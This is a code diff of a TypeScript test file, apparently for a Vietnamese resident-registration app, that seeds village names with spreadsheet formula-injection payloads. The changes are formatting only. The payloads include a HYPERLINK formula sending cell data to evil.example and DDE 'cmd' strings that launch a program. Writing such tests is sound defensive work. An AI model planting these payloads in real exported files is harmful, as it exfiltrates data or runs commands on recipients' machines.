@@ -19,9 +19,9 @@ import { createSession, serializeSessionCookie } from '#app/utils/session.server
  */
 const PAYLOADS = [
 	'=HYPERLINK("http://evil.example/?"&A2&B2,"Bấm vào đây")',
-	'+cmd|\' /C calc\'!A0',
-	'@SUM(1+9)*cmd|\' /C calc\'!A0',
-	'-2+3+cmd|\' /C calc\'!A0',
+	"+cmd|' /C calc'!A0",
+	"@SUM(1+9)*cmd|' /C calc'!A0",
+	"-2+3+cmd|' /C calc'!A0",
 	'\t=1+1',
 	'\r=1+1',
 	'＝1+1',
@@ -79,14 +79,31 @@ beforeAll(async () => {
 	for (const village of PAYLOADS) {
 		await registerResident({
 			phone: phone(),
-			profile: { fullName: 'Lò Văn Công Thức', birthYear: 1970, sex: 'MALE', ethnicGroup: '03', learnerGroup: 'RESIDENT', provinceCode: PROVINCE, communeCode: COMMUNE, village },
+			profile: {
+				fullName: 'Lò Văn Công Thức',
+				birthYear: 1970,
+				sex: 'MALE',
+				ethnicGroup: '03',
+				learnerGroup: 'RESIDENT',
+				provinceCode: PROVINCE,
+				communeCode: COMMUNE,
+				village,
+			},
 			passwordHash: { kind: 'PIN', hash: 'x' },
 			via: 'SEED',
 		})
 	}
 	const staff = await registerResident({
 		phone: phone(),
-		profile: { fullName: 'Cầm Thị Cán Bộ', birthYear: 1985, sex: 'FEMALE', ethnicGroup: '03', learnerGroup: 'OFFICIAL', provinceCode: PROVINCE, communeCode: COMMUNE },
+		profile: {
+			fullName: 'Cầm Thị Cán Bộ',
+			birthYear: 1985,
+			sex: 'FEMALE',
+			ethnicGroup: '03',
+			learnerGroup: 'OFFICIAL',
+			provinceCode: PROVINCE,
+			communeCode: COMMUNE,
+		},
 		passwordHash: { kind: 'PIN', hash: 'x' },
 		via: 'SEED',
 	})
